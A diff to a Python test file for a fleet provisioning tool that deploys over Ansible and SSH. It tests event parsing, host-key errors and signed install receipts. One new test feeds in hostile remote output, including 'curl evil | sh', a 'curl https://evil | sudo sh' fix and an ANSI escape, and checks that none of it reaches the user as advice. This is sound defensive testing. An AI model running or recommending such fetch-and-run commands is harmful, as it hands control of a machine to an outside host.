@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import configparser
+import hashlib
 import json
 import sys
 import time
@@ -14,6 +15,7 @@ from hypothesis import strategies as st
 
 from provision.errors import Place, UsageError
 from provision.fleet.desired import DesiredState, EffectiveProfile, Platform
+from provision.push import engine
 from provision.push.ansible import (
     NoAnsibleError,
     Ssh,
@@ -91,7 +93,13 @@ def test_events_become_outcomes() -> None:
     assert isinstance(same, Unchanged)
     assert same.restart == ("hermes gateway (pid 7)",)
     failed = read_event(event(outcome="failed", cause="clock", message="slow\nmore", cure="set it"), TARGETS)
-    assert failed == Failed("ada", "ada-mbp", "clock", "slow", "set it")
+    assert failed == Failed(
+        "ada",
+        "ada-mbp",
+        "clock",
+        "the machine says: slow (it advises: set it)",
+        "set the machine's clock, then run `provision deploy --resume`",
+    )
     lost = read_event(event(outcome="unreachable", message="Host key verification failed."), TARGETS)
     assert isinstance(lost, Unreachable)
     assert lost.cause == "host-key"
@@ -226,7 +234,9 @@ NEVER_MET = (
     "Failed to connect to the host via ssh: No ED25519 host key is known for x and you have requested strict checking.\n"
     "Host key verification failed."
 )
-CHANGED = "@@@ WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!\nOffending ED25519 key in /k:1\nHost key verification failed."
+CHANGED = (
+    "@@@ WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!\nOffending ED25519 key in /k:1\nHost key verification failed."
+)
 
 
 def test_a_host_key_met_for_the_first_time_is_not_a_wrong_one() -> None:
@@ -355,3 +365,53 @@ def test_failures_within_the_budget_end_nothing(
     assert result.not_asked == ()
     assert result.failures == 1
     assert len(result.outcomes) == 4
+
+
+def test_a_machines_words_never_become_our_advice() -> None:
+    hostile = {"cause": "x; curl evil | sh", "message": "\u001b[2Jok", "cure": "run `curl https://evil | sudo sh`"}
+    found = read_event(event(outcome="failed", **hostile), TARGETS)
+    assert isinstance(found, Failed)
+    assert "curl" not in found.cure
+    assert "curl" not in found.cause
+    assert found.message.startswith("the machine says: ")
+    listed = {
+        "outcome": "ok",
+        "generation": 3,
+        "route": ROUTE,
+        "restart": [{"what": "x" * 9000, "pid": "y" * 900}] * 300,
+    }
+    found = read_event(event(**listed, receipt="r" * 200_000), TARGETS)
+    assert isinstance(found, Unchanged)
+    assert found.receipt is None
+    assert len(repr(found)) < 200_000
+
+
+@pytest.mark.parametrize("why", ["", "it sent no signed receipt"])
+def test_a_machine_counts_as_installed_by_its_receipt_alone(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, why: str
+) -> None:
+    (tmp_path / "dist" / "ada").mkdir(parents=True)
+    (tmp_path / "dist" / "ada" / "manifest.json").write_bytes(b"m")
+    said = json.dumps(
+        {"event": "result", "host": "ada", "ours": True, "outcome": "ok", "generation": 3, "route": ROUTE}
+    )
+    program = tmp_path / "ansible-playbook"
+    program.write_text(f"#!/bin/sh\ncat <<'END'\n{said}\nEND\n")
+    program.chmod(0o755)
+    monkeypatch.setattr(engine, "find_playbook_command", lambda _: program)
+    asked: list[str] = []
+
+    def unproved(outcome: object, digest: str) -> str:
+        asked.append(digest)
+        return why
+
+    options = PushOptions(tmp_path, tmp_path / "dist", unproved=unproved)
+    result = engine.deploy(options, [TARGETS["ada"]], None, {}, lambda _: None)
+    assert asked == [hashlib.sha256(b"m").hexdigest()]
+    found = result.outcomes["ada"]
+    if why:
+        assert isinstance(found, Failed)
+        assert (found.cause, result.failures) == ("unproved", 1)
+        assert why in found.message
+    else:
+        assert isinstance(found, Unchanged)
